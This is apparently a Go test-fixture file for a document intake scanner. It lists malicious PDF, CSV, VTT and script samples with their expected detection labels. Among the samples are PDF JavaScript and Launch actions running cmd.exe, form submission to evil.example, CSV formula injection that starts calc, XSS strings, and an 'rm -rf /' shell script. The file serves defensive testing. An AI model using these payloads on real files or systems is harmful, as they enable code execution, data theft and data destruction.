package intake

import (
	"fmt"
	"strings"
)

func hostileDocuments() []hostile {
	good := goodPDF()
	script := "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
	objects := func(o string) string { return pdfWith("/OpenAction 20 0 R", objectStream(o)) }
	table := "20 0 "
	raw := func(dict, data string) string {
		return pdfWith("", pdfStream(fmt.Sprintf("/Type /ObjStm /N 1 /First %d %s", len(table), dict), data))
	}
	swelling := packed(table + strings.Repeat("(a) ", 30<<20))
	return []hostile{
		{"PDF with script", pdfWith("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"), "pdf_active"},
		{"PDF with script in an object", pdfWith("/OpenAction 4 0 R", script), "pdf_active"},
		{"PDF with script that is escaped", pdfWith("/OpenAction << /S /J#61vaScript /J#53 (x) >>"), "pdf_active"},
		{"PDF with script that is all escapes", pdfWith("/Names << /#4a#61#76#61#53#63#72#69#70#74 4 0 R >>"), "pdf_active"},
		{"PDF with script in packed objects", objects(script), "pdf_active"},
		{"PDF with escaped script in packed objects", objects("<< /S /J#61vaScript >>"), "pdf_active"},
		{"PDF with script in packed objects of no type", pdfWith("", strings.Replace(objectStream(script), "/Type /ObjStm", "", 1)), "pdf_active"},
		{"PDF with script in packed objects by an escaped key", pdfWith("", strings.Replace(objectStream(script), "/First", "/#46irst", 1)), "pdf_active"},
		{"PDF with objects packed twice", raw("/Filter [/ASCIIHexDecode /FlateDecode]", fmt.Sprintf("%x", packed(table+script))), "pdf_form"},
		{"PDF with objects packed in another way", raw("/Filter /LZWDecode", table+script), "pdf_form"},
		{"PDF with objects packed in a way to look up", raw("/Filter 9 0 R", packed(table+script)), "pdf_form"},
		{"PDF with objects packed by differences", raw("/Filter /FlateDecode /DecodeParms << /Predictor 12 >>", packed(table+script)), "pdf_form"},
		{"PDF with objects that are not packed", raw("", table+script), "pdf_active"},
		{"PDF with objects that swell", raw("/Filter /FlateDecode", swelling), "swells"},
		{"PDF with damaged packed objects", raw("/Filter /FlateDecode", packed(table + strings.Repeat("<< /A 1 >>", 99))[:25]), "broken"},
		{"PDF with an object in a string of packed objects", pdfWith("", pdfStream("/Type /ObjStm /N 2 /First 10 /Filter /FlateDecode", packed("20 0 21 7 << /A (<< /S /Java#53cript >>) >>"))), "broken"},
		{"PDF with an object in a comment", pdfWith("", "<< /A 1 >> % 9 0 obj << /JS (x) >>\n"), "broken"},
		{"PDF with an object in a string", pdfWith("", "<< /A (\n9 0 obj << /JS /x >> endobj) >>"), "broken"},
		{"PDF with an object in a hex string", pdfWith("", "<< /A <\n9 0 obj /JS > >>"), "broken"},
		{"PDF with an object in a stream between comments", pdfWith("", pdfStream("", "x\n7 % 9 0 % y\n obj << /JS (x) >> endobj")), "broken"},
		{"PDF with a trailer in a stream", pdfWith("", pdfStream("", "x\ntrailer % y\n << /Root << /JS (x) >> >>")), "broken"},
		{"PDF with a trailer in a string", pdfWith("", "<< /A (trailer<</Root 9 0 R>>) >>"), "broken"},
		{"PDF with packed objects at two places", raw("/First 4 /Filter /FlateDecode", packed(table+script)), "pdf_form"},
		{"PDF with more packed objects than places", strings.Replace(raw("/Filter /FlateDecode", packed(table+"<< >>")), "/N 1", "/N 2", 1), "broken"},
		{"PDF with an object in a stream", pdfWith("", pdfStream("", "x\n9  0 obj << /JS (x) >> endobj")), "broken"},
		{"PDF with a comment that opens a string", pdfWith("", "<< /A % (\n /JS (x) % )\n >>"), "pdf_active"},
		{"PDF that starts a program", pdfWith("", "<< /S /Launch /F (cmd.exe) >>"), "pdf_active"},
		{"PDF with rich media", pdfWith("", "<< /Type /Annot /Subtype /RichMedia >>"), "pdf_active"},
		{"PDF with a form of XML", pdfWith("/AcroForm << /XFA 4 0 R >>"), "pdf_active"},
		{"PDF with more actions", pdfWith("/AA << /WC 4 0 R >>"), "pdf_active"},
		{"PDF that sends", pdfWith("", "<< /S /SubmitForm /F (https://evil.example) >>"), "pdf_active"},
		{"PDF that takes in", pdfWith("", "<< /S /ImportData >>"), "pdf_active"},
		{"PDF that opens another file", pdfWith("", "<< /S /GoToR /F (\\\\\\\\evil\\\\share) >>"), "pdf_active"},
		{"PDF that opens an embedded file", pdfWith("", "<< /S /GoToE >>"), "pdf_active"},
		{"PDF with a file", pdfWith("", pdfStream("/Type /EmbeddedFile", "MZ")), "pdf_attachment"},
		{"PDF with files by name", pdfWith("/Names << /EmbeddedFiles 4 0 R >>"), "pdf_attachment"},
		{"PDF with a file of no type", pdfWith("", "<< /F (a.exe) /EF << /F 5 0 R >> >>"), "pdf_attachment"},
		{"PDF that opens an address", pdfWith("/OpenAction << /S /URI /URI (https://evil.example) >>"), "pdf_active"},
		{"PDF that opens an address in an object", pdfWith("/OpenAction 4 0 R", "<< /S /URI /URI (https://evil.example) >>"), "pdf_active"},
		{"PDF that opens an address in packed objects", objects("<< /S /URI /URI (https://evil.example) >>"), "pdf_active"},
		{"PDF that opens an address by a word to look up", pdfWith("/OpenAction 4 0 R", "<< /S 5 0 R /URI (https://evil.example) >>", "/URI"), "pdf_active"},
		{"PDF that opens an address next", pdfWith("/OpenAction 4 0 R", "<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>", "<< /S /URI /URI (x) >>"), "pdf_active"},
		{"PDF that is encrypted", makePDF("/Encrypt 4 0 R", append([]string{"<< /Type /Catalog >>"}, pages()...)...), "encrypted"},
		{"PDF without an end", strings.TrimSuffix(good, "%%EOF\n"), "cut"},
		{"PDF without a table", strings.Replace(good, "startxref", "startyref", 1), "cut"},
		{"PDF with a table beyond the end", good + "startxref\n999999999\n%%EOF", "broken"},
		{"PDF of a header", "%PDF-1.7\nstartxref\n0\n%%EOF", "broken"},
		{"PDF without a version", "%PDF-x.7\n" + good, "broken"},
		{"PDF not at the beginning", "\n\n" + good, "unknown"},
		{"PDF with a stream without an end", strings.Replace(good, "endstream", "endstraam", 99), "cut"},
		{"PDF with an archive behind it", good + makeZIP(file{"a", "b"}), "hidden"},
		{"PDF with an archive in it", pdfWith("", pdfStream("", makeZIP(file{"a", "b"}))), "hidden"},
		{"PDF with a page behind it", good + "<html>", "hidden"},
		{"PDF that opens a score of places", pdfWith(strings.Repeat("/OpenAction 4 0 R ", 20), "[3 0 R /Fit]"), "pdf_active"},
		{"RTF", `{\rtf1\ansi hello}`, "rtf"},
		{"Postscript", "%!PS-Adobe-3.0\n", "postscript"},
		{"an old Word file", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + strings.Repeat("\x00", 600), "legacy_office"},
	}
}

func hostileText() []hostile {
	return []hostile{
		{"HTML as CSV", "<!DOCTYPE html><html><body>a,b</body></html>", "html"},
		{"HTML after a space", "  \r\n<html>,\n<b>,\n", "html"},
		{"XML", "<?xml version=\"1.0\"?><a/>", "xml"},
		{"PHP", "<?php echo 1; ?>", "script"},
		{"a script with its first line", "#!/bin/sh\nrm -rf /\n", "program"},
		{"CSV with script in it", "a,b\n1,<script>alert(1)</script>\n", "hidden"},
		{"CSV with a page in it", "a,b\n<html>,2\n", "hidden"},
		{"CSV with a zero", "a,b\n1,\x002\n", "unknown"},
		{"CSV with a control character late", "a,b\n" + strings.Repeat("1,2\n", 5000) + "\x1b,2\n", "unknown"},
		{"CSV of another coding", "a,b\n\xd0,\xfe\xe0\n", "not_utf8"},
		{"CSV of another coding late", "a,b\n" + strings.Repeat("1,2\n", 5000) + "\xe0,2\n", "not_utf8"},
		{"CSV of sixteen bits", "\xff\xfea\x00,\x00b\x00\n\x00", "not_utf8"},
		{"CSV that is uneven", "a,b\n1\n2,3,4\n5\n", "text"},
		{"CSV with a quote without end", "a,b\n1,\"2\n", "broken"},
		{"CSV with a formula that starts a program", "a,b\n1,=cmd|'/c calc'!A0\n", "formula"},
		{"CSV with such a formula in quotes", "a,b\n1,\" +cmd|'/c calc'!A0\"\n", "formula"},
		{"JSON", "{\"a\": 1,\n \"b\": 2}", "text"},
		{"prose", "Dear all,\nthe meeting is moved.\nRegards", "text"},
		{"one word", "word", "text"},
		{"VTT with script", "WEBVTT\n\n00:01.000 --> 00:02.000\n<script>alert(1)</script>\n", "vtt_markup"},
		{"VTT with a picture", "WEBVTT\n\n00:01.000 --> 00:02.000\n<img src=x onerror=alert(1)>\n", "vtt_markup"},
		{"VTT with an open tag", "WEBVTT\n\n00:01.000 --> 00:02.000\n<svg/onload=alert(1)\n", "vtt_markup"},
		{"VTT that fetches a sheet", "WEBVTT\n\nSTYLE\n@import url(https://evil.example/x.css);\n\n00:01.000 --> 00:02.000\nx\n", "vtt_markup"},
		{"VTT without a cue", "WEBVTT\n\nNOTE nothing\n", "broken"},
		{"VTT with a wrong time", "WEBVTT\n\n00:01 --> 00:02\nx\n", "broken"},
		{"VTT of another name", "WEBVTTX\n\n00:01.000 --> 00:02.000\nx\n", "broken"},
		{"VTT with a zero", "WEBVTT\n\n00:01.000 --> 00:02.000\nx\x00\n", "broken"},
		{"VTT of another coding", "WEBVTT\n\n00:01.000 --> 00:02.000\n\xe0\n", "not_utf8"},
		{"VTT with a line of a megabyte", "WEBVTT\n\n" + strings.Repeat("x", 1<<19), "broken"},
	}
}
